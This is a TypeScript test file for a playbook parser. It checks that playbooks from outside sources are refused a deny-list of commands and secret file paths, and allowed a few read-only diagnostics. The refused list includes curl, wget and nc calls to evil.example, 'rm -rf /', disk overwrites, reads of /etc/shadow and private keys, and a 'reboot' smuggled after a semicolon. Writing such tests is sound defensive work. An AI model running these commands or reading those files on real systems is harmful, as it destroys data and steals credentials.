import assert from "node:assert/strict";
import { test } from "node:test";
import { ConfigError } from "../../src/config/config-error.ts";
import { parsePlaybook } from "../../src/playbook/parse-playbook.ts";

function complaintAbout(probe: string): string {
  const text = `title: t\nrole: upstream\nprobes:\n  look: { title: t, ${probe} }\n`;
  try {
    parsePlaybook(text, { file: "app.yaml", origin: "outside" });
  } catch (error) {
    assert.ok(error instanceof ConfigError, String(error));
    return error.message;
  }
  return "";
}

const REFUSED_COMMANDS = [
  // interpreters, and programs that start others
  ["bash", "-c", "reboot"],
  ["sh", "-c", "id"],
  ["perl", "-e", "1"],
  ["python3", "-c", "1"],
  ["env", "reboot"],
  ["sudo", "id"],
  ["nice", "reboot"],
  ["timeout", "5", "reboot"],
  ["xargs", "rm"],
  ["find", "/", "-delete"],
  ["awk", "BEGIN{system(1)}"],
  ["sed", "-i", "s/a/b/", "/etc/hosts"],
  ["/tmp/evil"],
  ["./evil"],
  ["constructor"],
  // writes, network, power
  ["tee", "/etc/hosts"],
  ["cp", "/etc/shadow", "/tmp/x"],
  ["rm", "-rf", "/"],
  ["dd", "of=/dev/sda"],
  ["curl", "http://evil.example/x"],
  ["wget", "http://evil.example/x"],
  ["nc", "evil.example", "1"],
  ["ssh", "evil.example"],
  ["docker", "run", "x"],
  ["kill", "1"],
  ["reboot"],
  // allowed programs with words that change something
  ["ss", "-K", "dst", "10.0.0.1"],
  ["ss", "-HtK"],
  ["ss", "-D", "/tmp/x"],
  ["systemctl", "restart", "nginx.service"],
  ["systemctl", "--now", "enable", "x.service"],
  ["systemctl", "-H", "other", "show", "x.service"],
  ["systemctl", "show", "x.service;reboot"],
  ["journalctl", "--vacuum-size=1"],
  ["journalctl", "--rotate"],
  ["journalctl", "-D", "/tmp"],
  ["journalctl", "--directory=/tmp"],
  ["ip", "route", "add", "default"],
  ["ip", "link", "set", "eth0", "down"],
  ["ip", "netns", "exec", "x", "reboot"],
  ["ip", "-batch", "/tmp/x"],
  ["sysctl", "-w", "vm.swappiness=1"],
  ["sysctl", "vm.swappiness=1"],
  ["getent", "shadow"],
  ["getent", "passwd", "root"],
  ["pg_isready", "--help"],
  // reading what is secret
  ["ls", "/root"],
  ["stat", "/etc/shadow"],
  ["ls", "/var/log/../../root"],
  ["namei", "-l", "/home/app/.ssh/id_rsa"],
];

for (const argv of REFUSED_COMMANDS) {
  test(`a playbook from outside may not run: ${argv.join(" ")}`, () => {
    const told = complaintAbout(`run: ${JSON.stringify(argv)}`);
    assert.match(told, /^app\.yaml:4:\d+: probes\.look\.run\.\d+: .*may not be/);
  });
}

const ALLOWED_COMMANDS = [
  ["ss", "-Htlnp"],
  ["ss", "-Htan", "( dport = :5432 )"],
  ["systemctl", "show", "--no-pager", "--property=Id,ActiveState", "*.service"],
  ["journalctl", "--no-pager", "-o", "short-unix", "-n", "100", "--since=-2h", "_PID=1"],
  ["ps", "-e", "-ww", "-o", "pid=,args="],
  ["df", "-PT", "-B1"],
  ["ip", "-j", "route", "get", "192.0.2.1"],
  ["getent", "ahosts", "db.internal"],
  ["stat", "-c", "%a %U", "/run/app/app.sock"],
  ["pg_isready", "-q", "-t", "3"],
];

for (const argv of ALLOWED_COMMANDS) {
  test(`a playbook from outside may run: ${argv.join(" ")}`, () => {
    assert.equal(complaintAbout(`run: ${JSON.stringify(argv)}`), "");
  });
}

const PATHS: readonly [path: string, readable: boolean][] = [
  ["/etc/myapp/app.conf", true],
  ["/etc/myapp/conf.d/*.conf", true],
  ["/etc/resolv.conf", true],
  ["/opt/app/config/app.yaml", true],
  ["/proc/loadavg", true],
  ["/etc/shadow", false],
  ["/etc/shadow-", false],
  ["/etc/s*", false],
  ["/etc/*/app.conf", false],
  ["/etc/ssh/ssh_host_ed25519_key", false],
  ["/etc/ssl/private/site.key", false],
  ["/etc/letsencrypt/live/site/privkey.pem", false],
  ["/opt/app/.env", false],
  ["/opt/app/server.key", false],
  ["/proc/1/environ", false],
  ["/proc/*/cmdline", false],
  ["/root/.bash_history", false],
  ["/home/app/app.log", false],
  ["/dev/sda", false],
];

for (const [path, readable] of PATHS) {
  test(`a playbook from outside ${readable ? "may" : "may not"} read ${path}`, () => {
    const told = complaintAbout(`files: ["${path}"]`);
    assert.equal(told === "", readable, told);
  });
}

test("a playbook from outside gets root for nothing but logs", () => {
  assert.match(complaintAbout("run: [uptime], as: root"), /may not use root here/);
  assert.match(complaintAbout("run: [uptime], as: prefer-root"), /may not use prefer-root here/);
  assert.match(
    complaintAbout("files: [/etc/myapp/app.conf], as: prefer-root"),
    /may not use prefer-root here/,
  );
  assert.equal(complaintAbout("log: /var/log/myapp/app.log, timestamps: iso, as: prefer-root"), "");
  assert.match(
    complaintAbout("log: /etc/shadow, timestamps: none, as: prefer-root"),
    /not below \/var\/log\//,
  );
});

test("the same look is accepted in a playbook of the product", () => {
  const text = "title: t\nrole: host\nprobes:\n  look: { title: t, run: [nft, list, ruleset], as: root }\n";
  assert.equal(parsePlaybook(text, { file: "host.yaml", origin: "shipped" }).probes.look?.as, "root");
});
